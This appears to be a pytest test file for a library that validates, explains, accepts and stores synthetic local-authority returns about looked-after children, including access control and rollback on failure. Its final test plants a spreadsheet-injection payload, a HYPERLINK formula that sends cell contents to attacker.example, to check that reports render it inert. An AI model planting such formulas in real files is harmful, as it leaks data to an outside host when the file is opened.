"""Submissions end to end in the library: rejected, explained, accepted, resubmitted;
what lands in the store and the accepted-collections table; a provider sees only
its own submissions; a failure while accepting leaves everything as it was."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import duckdb
import numpy as np
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from fivesafes.appdb import add_user, migrate, session_factory
from fivesafes.collections import submissions as subs
from fivesafes.collections.models import Submission
from fivesafes.errors import FivesafesError, InputError, PolicyRefusal
from fivesafes.synth import returns as rt

ANN, BOB, ADMIN, RES = "ann", "bob", "admin", "res"
A, B = rt.la_code(0), rt.la_code(1)


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    url = f"sqlite:///{tmp_path / 'state.db'}"
    migrate(url)
    with session_factory(url)() as s:
        add_user(s, ADMIN, "administrator")
        add_user(s, ANN, "data_owner")
        add_user(s, BOB, "data_owner")
        add_user(s, RES, "researcher")
        subs.add_provider(s, A, rt.la_name(0), actor=ADMIN)
        subs.add_provider(s, B, rt.la_name(1), actor=ADMIN)
        subs.add_member(s, A, ANN, actor=ADMIN)
        subs.add_member(s, B, BOB, actor=ADMIN)
        yield s


@pytest.fixture(scope="module")
def authority() -> rt.Authority:
    return rt.make_authority(rt.ReturnsConfig(children=200), 0)


def write(tmp_path: Path, name: str, table: object) -> Path:
    path = tmp_path / "inbox" / name
    rt.write_csv(table, path)  # type: ignore[arg-type]
    return path


def accepted_rows(d: Path, sql: str) -> list[tuple[object, ...]]:
    con = duckdb.connect(str(d / "accepted.duckdb"), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


def test_a_clean_return_is_accepted_and_stored_split(
    session: Session, tmp_path: Path, authority: rt.Authority
) -> None:
    d = tmp_path / "coll"
    table = rt.cla_return(authority, 2021)
    result = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "r.csv", table), directory=d
    )
    sub = result.submission
    assert (sub.status, sub.errors, sub.warnings, sub.rows) == ("ready", 0, 0, table.num_rows)
    subs.accept(session, ANN, sub.id, directory=d)
    assert sub.status == "accepted"

    cols = [r[0] for r in accepted_rows(d, "DESCRIBE cla_episodes")]
    assert cols == [
        "provider", "submission_id", "collection_year", "record_id", "sex", "ethnicity",
        "la_code", "episode_start", "episode_end", "legal_status", "placement_type",
        "reason_for_entry", "reason_for_leaving", "birth_year", "birth_month",
    ]  # fmt: skip
    by_provider = "SELECT provider, submission_id, collection_year, count(*) FROM cla_episodes "
    assert accepted_rows(d, by_provider + "GROUP BY ALL") == [(A, sub.id, 2021, table.num_rows)]
    assert accepted_rows(d, "SELECT * FROM _providers") == [(A, rt.la_name(0))]
    listed = "SELECT submission_id, collection, provider, collection_year, rows FROM _submissions"
    assert accepted_rows(d, listed) == [(sub.id, "cla_episodes", A, 2021, table.num_rows)]
    # The same records, typed, as sent.
    starts = sorted(str(r[0]) for r in accepted_rows(d, "SELECT episode_start FROM cla_episodes"))
    assert starts == sorted(table.column("episode_start").to_pylist())

    # Split: child ids and dates of birth only in the identifier zone.
    store = d / "store"
    idz = duckdb.connect(str(store / "identifiers.duckdb"), read_only=True)
    cz = duckdb.connect(str(store / "content.duckdb"), read_only=True)
    try:
        id_cols = [r[0] for r in idz.execute("DESCRIBE cla_episodes").fetchall()]
        c_cols = [r[0] for r in cz.execute("DESCRIBE cla_episodes").fetchall()]
        ids = {r[0] for r in idz.execute("SELECT child_id FROM cla_episodes").fetchall()}
    finally:
        idz.close()
        cz.close()
    assert {"child_id", "dob"} <= set(id_cols)
    assert not {"child_id", "dob"} & set(c_cols)
    assert ids == set(table.column("child_id").to_pylist())


def test_errors_block_acceptance_and_the_report_lists_each(
    session: Session, tmp_path: Path, authority: rt.Authority
) -> None:
    d = tmp_path / "coll"
    bad, planted = rt.with_errors(
        rt.cla_return(authority, 2021), "cla_episodes", np.random.default_rng(3)
    )
    result = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "bad.csv", bad), directory=d
    )
    sub = result.submission
    assert sub.status == "rejected" and sub.errors >= len(planted)
    with pytest.raises(
        FivesafesError,
        match=rf"submission {sub.id} has {sub.errors} errors, which block acceptance",
    ):
        subs.accept(session, ANN, sub.id, directory=d)
    with pytest.raises(FivesafesError, match="only a submission whose warnings need explaining"):
        subs.explain(session, ANN, sub.id, "CLA119", "It is fine really", directory=d)

    with result.report_csv.open() as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == ["row", "field", "value", "rule", "severity", "message", "explanation"]
    found = {(r["row"], r["field"]) for r in rows}
    for p in planted:  # every planted mistake is reported at its row and field
        assert (str(p.row), p.field) in found, p
    missing = next(r for r in rows if r["rule"] == "CLA119")
    assert missing["message"] == "The placement type is missing."
    assert missing["severity"] == "error"
    html = result.report_html.read_text()
    assert "Rejected: the return has errors." in html
    assert "The placement type is missing." in html
    assert f'<td class="numeric">{missing["row"]}</td><td>placement_type</td>' in html
    assert not (d / "accepted.duckdb").exists()  # nothing accepted


def test_warnings_need_explanations_per_row_or_per_rule(
    session: Session, tmp_path: Path, authority: rt.Authority
) -> None:
    d = tmp_path / "coll"
    table = rt.cla_return(authority, 2021)
    blank = table.column("ethnicity").to_pylist()
    blank[3] = blank[7] = blank[9] = ""  # CLA108: ethnicity missing is a warning
    table = table.set_column(table.schema.get_field_index("ethnicity"), "ethnicity", [blank])
    sub = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "w.csv", table), directory=d
    ).submission
    assert (sub.status, sub.errors, sub.warnings) == ("needs_explanation", 0, 3)
    with pytest.raises(FivesafesError, match=r"has 3 warnings not yet explained \(rule CLA108\)"):
        subs.accept(session, ANN, sub.id, directory=d)
    with pytest.raises(FivesafesError, match="CLA101 is an error, not a warning"):
        subs.explain(session, ANN, sub.id, "CLA101", "No, it is fine", directory=d)
    with pytest.raises(FivesafesError, match="rule CLA108 has no warning at row 5"):
        subs.explain(session, ANN, sub.id, "CLA108", "Refused to say", rows=[5], directory=d)
    with pytest.raises(FivesafesError, match="keep the explanation to 2,000 characters"):
        subs.explain(session, ANN, sub.id, "CLA108", "why " * 501, rows=[4], directory=d)
    assert subs.outstanding(session, ANN, sub.id, d) == [
        ("CLA108", 4),
        ("CLA108", 8),
        ("CLA108", 10),
    ]

    subs.explain(
        session, ANN, sub.id, "CLA108", "The child refused to say", rows=[4, 8], directory=d
    )
    assert sub.status == "needs_explanation"
    assert subs.outstanding(session, ANN, sub.id, d) == [("CLA108", 10)]
    subs.explain(session, ANN, sub.id, "CLA108", "Being asked at the next review", directory=d)
    assert sub.status == "ready"
    subs.accept(session, ANN, sub.id, directory=d)
    with (d / "submissions" / str(sub.id) / "report.csv").open() as fh:
        rows = {r["row"]: r["explanation"] for r in csv.DictReader(fh)}
    assert rows == {
        "4": "The child refused to say",
        "8": "The child refused to say",
        "10": "Being asked at the next review",
    }


def test_the_comparison_uses_the_previous_years_accepted_return(
    session: Session, tmp_path: Path
) -> None:
    d = tmp_path / "coll"
    jump = rt.make_authority(rt.ReturnsConfig(), rt.JUMP_LA)
    code = rt.la_code(rt.JUMP_LA)
    subs.add_provider(session, code, "Jump", actor=ADMIN)
    add_user(session, "jo", "data_owner")
    subs.add_member(session, code, "jo", actor=ADMIN)
    year = rt.JUMP_YEAR
    first = subs.submit(
        session,
        "jo",
        "cla_episodes",
        year - 1,
        write(tmp_path, "a.csv", rt.cla_return(jump, year - 1)),
        directory=d,
    )
    assert first.comparison["CLA401"] == "no previous accepted submission to compare with"
    subs.accept(session, "jo", first.submission.id, directory=d)
    second = subs.submit(
        session,
        "jo",
        "cla_episodes",
        year,
        write(tmp_path, "b.csv", rt.cla_return(jump, year)),
        directory=d,
    )
    sub = second.submission
    assert sub.status == "needs_explanation" and sub.issue_counts.get("CLA401") == 1
    before = first.submission.summary["CLA401"][""]
    now = sub.summary["CLA401"][""]
    with second.report_csv.open() as fh:
        issue = next(r for r in csv.DictReader(fh) if r["rule"] == "CLA401")
    change = (now - before) / before * 100
    assert issue["row"] == "" and issue["value"] == f"{before} -> {now}"
    assert issue["message"] == (
        f"The number of children looked after changed by {change:+.1f}% since the last "
        f"accepted return ({before:,} then, {now:,} now); please explain."
    )


def test_resubmission_supersedes_and_replaces_the_accepted_rows(
    session: Session, tmp_path: Path, authority: rt.Authority
) -> None:
    d = tmp_path / "coll"
    table = rt.cla_return(authority, 2021)
    one = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "1.csv", table), directory=d
    ).submission
    two = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "2.csv", table), directory=d
    ).submission
    assert one.status == "superseded" and two.supersedes_id == one.id
    with pytest.raises(FivesafesError, match="already superseded"):
        subs.accept(session, ANN, one.id, directory=d)
    subs.accept(session, ANN, two.id, directory=d)

    fewer = table.slice(0, table.num_rows - 10)
    three = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "3.csv", fewer), directory=d
    ).submission
    assert two.status == "accepted"  # still the accepted one until the new one is accepted
    subs.accept(session, ANN, three.id, directory=d)
    assert two.status == "superseded"
    assert accepted_rows(d, "SELECT submission_id, count(*) FROM cla_episodes GROUP BY ALL") == [
        (three.id, fewer.num_rows)
    ]
    assert accepted_rows(d, "SELECT submission_id FROM _submissions") == [(three.id,)]
    # The store keeps only the accepted return's records.
    idz = duckdb.connect(str(d / "store" / "identifiers.duckdb"), read_only=True)
    try:
        assert idz.execute("SELECT count(*) FROM cla_episodes").fetchone() == (fewer.num_rows,)
        assert idz.execute("SELECT count(*) FROM _ingests").fetchone() == (1,)
    finally:
        idz.close()


def test_a_provider_sees_and_acts_on_only_its_own_submissions(
    session: Session, tmp_path: Path, authority: rt.Authority
) -> None:
    d = tmp_path / "coll"
    path = write(tmp_path, "r.csv", rt.cla_return(authority, 2021))
    mine = subs.submit(session, ANN, "cla_episodes", 2021, path, directory=d).submission
    missing = 10_000
    for actor in (BOB, RES):
        for sid in (mine.id, missing):  # the same refusal whether it exists or not
            with pytest.raises(
                PolicyRefusal, match=rf"^no submission {sid} among those {actor} may see$"
            ):
                subs.get_submission(session, actor, sid)
        with pytest.raises(PolicyRefusal):
            subs.accept(session, actor, mine.id, directory=d)
        with pytest.raises(PolicyRefusal):
            subs.explain(session, actor, mine.id, "CLA108", "Not mine to say", directory=d)
        with pytest.raises(PolicyRefusal):
            subs.report_paths(session, actor, mine.id, d)
        assert subs.list_submissions(session, actor) == []
    assert [s.id for s in subs.list_submissions(session, ANN)] == [mine.id]
    assert [s.id for s in subs.list_submissions(session, ADMIN)] == [mine.id]
    # Bob's rows carry his own code; Ann's file is not his to send.
    with pytest.raises(PolicyRefusal, match=f"bob does not submit for provider {A}"):
        subs.submit(session, BOB, "cla_episodes", 2021, path, provider=A, directory=d)
    with pytest.raises(PolicyRefusal, match="res is not a member of any provider"):
        subs.submit(session, RES, "cla_episodes", 2021, path, directory=d)
    theirs = subs.submit(session, BOB, "cla_episodes", 2021, path, directory=d).submission
    assert theirs.issue_counts["CLA111"] == theirs.rows  # every row has Ann's code
    assert [s.id for s in subs.list_submissions(session, BOB)] == [theirs.id]
    # Only administrators manage providers.
    with pytest.raises(PolicyRefusal, match="only an administrator can add a provider"):
        subs.add_provider(session, "X06000077", "Nowhere", actor=ANN)


def test_a_bad_file_leaves_nothing_behind(session: Session, tmp_path: Path) -> None:
    d = tmp_path / "coll"
    path = tmp_path / "inbox" / "r.csv"
    path.parent.mkdir()
    path.write_text("child_id;dob;sex\n1;2;3\n")
    with pytest.raises(InputError, match=r"r\.csv: fields are separated by semicolons"):
        subs.submit(session, ANN, "cla_episodes", 2021, path, directory=d)
    assert session.scalar(select(func.count()).select_from(Submission)) == 0
    assert list((d / "submissions").iterdir()) == []


def test_a_failure_while_accepting_leaves_everything_as_it_was(
    session: Session, tmp_path: Path, authority: rt.Authority, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = tmp_path / "coll"
    table = rt.cla_return(authority, 2021)
    old = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "1.csv", table), directory=d
    ).submission
    subs.accept(session, ANN, old.id, directory=d)
    new = subs.submit(
        session,
        ANN,
        "cla_episodes",
        2021,
        write(tmp_path, "2.csv", table.slice(0, 50)),
        directory=d,
    ).submission

    real = subs._load_accepted

    def fails_half_way(
        directory: Path | None, spec: object, sub: Submission, ingest_id: str, *rest: object
    ) -> None:
        real(directory, spec, sub, ingest_id, *rest)  # type: ignore[arg-type]
        raise OSError("disk full")

    monkeypatch.setattr(subs, "_load_accepted", fails_half_way)
    with pytest.raises(OSError, match="disk full"):
        subs.accept(session, ANN, new.id, directory=d)
    session.expire_all()
    assert (old.status, new.status) == ("accepted", "ready")
    assert accepted_rows(d, "SELECT submission_id, count(*) FROM cla_episodes GROUP BY ALL") == [
        (old.id, table.num_rows)
    ]
    idz = duckdb.connect(str(d / "store" / "identifiers.duckdb"), read_only=True)
    try:
        assert idz.execute("SELECT count(*) FROM cla_episodes").fetchone() == (table.num_rows,)
    finally:
        idz.close()
    monkeypatch.setattr(subs, "_load_accepted", real)
    subs.accept(session, ANN, new.id, directory=d)  # and it can be accepted afterwards
    assert accepted_rows(d, "SELECT count(*) FROM cla_episodes") == [(50,)]


def test_a_formula_typed_by_a_provider_is_inert_in_the_report_csv(
    session: Session, tmp_path: Path, authority: rt.Authority
) -> None:
    """An attacker at a provider types a spreadsheet formula into a field; the report
    that the collecting body opens in a spreadsheet must show it as text (OWASP CSV
    injection), while a plain negative number is left alone."""
    import pyarrow as pa

    d = tmp_path / "coll"
    table = rt.cla_return(authority, 2021)
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    i = table.schema.get_field_index("placement_type")
    placements = table.column(i).to_pylist()
    placements[0] = evil
    table = table.set_column(i, "placement_type", pa.array(placements, pa.string()))
    result = subs.submit(
        session, ANN, "cla_episodes", 2021, write(tmp_path, "evil.csv", table), directory=d
    )
    with result.report_csv.open() as fh:
        rows = [r for r in csv.DictReader(fh) if r["field"] == "placement_type" and r["value"]]
    assert [r["value"] for r in rows if "HYPERLINK" in r["value"]] == ["'" + evil]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
    assert "&#34;http://attacker.example" in result.report_html.read_text() or (
        "&quot;http://attacker.example" in result.report_html.read_text()
    )
